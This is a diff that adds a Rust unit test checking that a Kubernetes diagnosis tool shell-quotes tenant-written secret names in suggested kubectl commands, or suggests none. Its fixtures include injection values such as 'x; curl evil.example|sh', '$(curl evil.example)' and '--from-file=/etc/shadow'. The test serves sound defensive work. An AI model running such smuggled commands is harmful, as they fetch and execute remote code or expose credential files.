@@ -1051,3 +1051,40 @@ async fn scan_without_leave_to_read_events_says_so_once_and_still_classes() {
     assert_eq!(class("web-1"), Some(serde_json::json!("pullUnknown")));
     assert_eq!(class("api-1"), Some(serde_json::json!("oomKilled")));
 }
+
+/// What the kubelet or an Event quotes was written by a tenant: a next step that names it is
+/// a command the engineer may paste, so the name is quoted as a shell needs, or no command
+/// is suggested.
+#[test]
+fn a_suggested_command_quotes_what_a_tenant_wrote_or_suggests_none() {
+    let missing = |name: &str| {
+        let message = format!("secret \"{name}\" not found");
+        class_of(deployment_pod("web-1").waiting_with("CreateContainerConfigError", &message)).1
+    };
+    let quoted = missing("x; curl evil.example|sh");
+    assert_eq!(quoted.class, CauseClass::MissingSecret);
+    assert!(
+        quoted
+            .next
+            .contains("kubectl create secret 'x; curl evil.example|sh' -n shop"),
+        "{quoted:?}"
+    );
+    for unsafe_name in [
+        "x\n$(curl evil.example)",
+        "--from-file=/etc/shadow",
+        "a\u{1b}[2J",
+    ] {
+        let cause = missing(unsafe_name);
+        assert!(
+            !cause.next.contains("kubectl create") && !cause.next.contains(unsafe_name),
+            "{cause:?}"
+        );
+    }
+    let plain = missing("db-creds");
+    assert!(
+        plain
+            .next
+            .contains("kubectl create secret db-creds -n shop"),
+        "{plain:?}"
+    );
+}
